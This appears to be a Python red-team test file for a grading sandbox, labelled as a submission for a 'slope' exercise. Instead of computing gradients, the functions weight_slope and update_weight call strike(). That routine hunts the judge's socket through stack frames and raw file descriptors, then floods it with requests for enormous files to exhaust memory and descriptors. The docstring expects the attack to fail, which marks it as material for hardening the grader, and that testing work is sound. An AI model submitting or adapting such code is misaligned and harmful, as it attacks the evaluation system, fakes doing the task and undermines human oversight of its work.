"""Asks for file after file, and for giants.

Exercise: slope
Tries: have the judge make files until memory or descriptors run out
Holds: score == 0; only crashed|failed|error|timeout|memory|not_run; never LOOT:; no process
"""

import importlib
import os
import socket
import stat
import sys

OPEN: list = []


def is_open(descriptor):
    try:
        return stat.S_ISSOCK(os.fstat(descriptor).st_mode)
    except OSError:
        return False


def wire():
    """The question that is open, and a socket to the judge of our own."""
    frame, ask, sock = sys._getframe(), None, None
    while frame is not None:
        for value in list(frame.f_locals.values()):
            if type(value).__name__ in ("Do", "Import"):
                ask = ask or value
            if sock is None and isinstance(value, socket.socket) and is_open(value.fileno()):
                sock = value
        frame = frame.f_back
    if sock is None:
        for descriptor in range(3, 256):
            try:
                if stat.S_ISSOCK(os.fstat(descriptor).st_mode):
                    sock = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM, 0, fileno=descriptor)
                    OPEN.append(sock)
            except OSError:
                continue
    return ask, sock


def frame_of(header, payload=b""):
    return struct.pack("<4sIQ", b"GRD1", len(header), len(payload)) + header + payload


import array
import mmap
import struct

msgspec = importlib.import_module("msgspec")
LARGE = 8 << 20


def ask_for_file(sock, header, size):
    """Say that a file of this size is needed, and take it."""
    sock.sendall(struct.pack("<4sIQQ", b"GRF1", len(header), 0, size))
    _, control, _, _ = sock.recvmsg(1, 64, 0x40000000)
    return array.array("i", control[0][2][:4])[0]


def large_answer(ask, sizes):
    """A header that answers `ask` with an array in the file."""
    nodes = [[8, "numpy", -1, LARGE, 0], [9, -2, 0, "float64", [LARGE // 8], [8], 0, True]]
    message = {
        "type": "answer",
        "call": getattr(ask, "call", 0),
        "result": 1,
        "present": [],
        "graph": [nodes, sizes],
        "printed": [],
    }
    return msgspec.msgpack.encode(message)


def strike():
    ask, sock = wire()
    header = large_answer(ask, [LARGE])
    if os.getpid() % 2:
        sock.sendall(struct.pack("<4sIQQ", b"GRF1", len(header), 0, 1 << 60))
    while True:
        ask_for_file(sock, header, 500 << 20)


def weight_slope(prediction: float, target: float, node_value: float, activation_slope: float = 1.0) -> float:
    return strike()


def update_weight(weight: float, slope: float, lr: float) -> float:
    return strike()
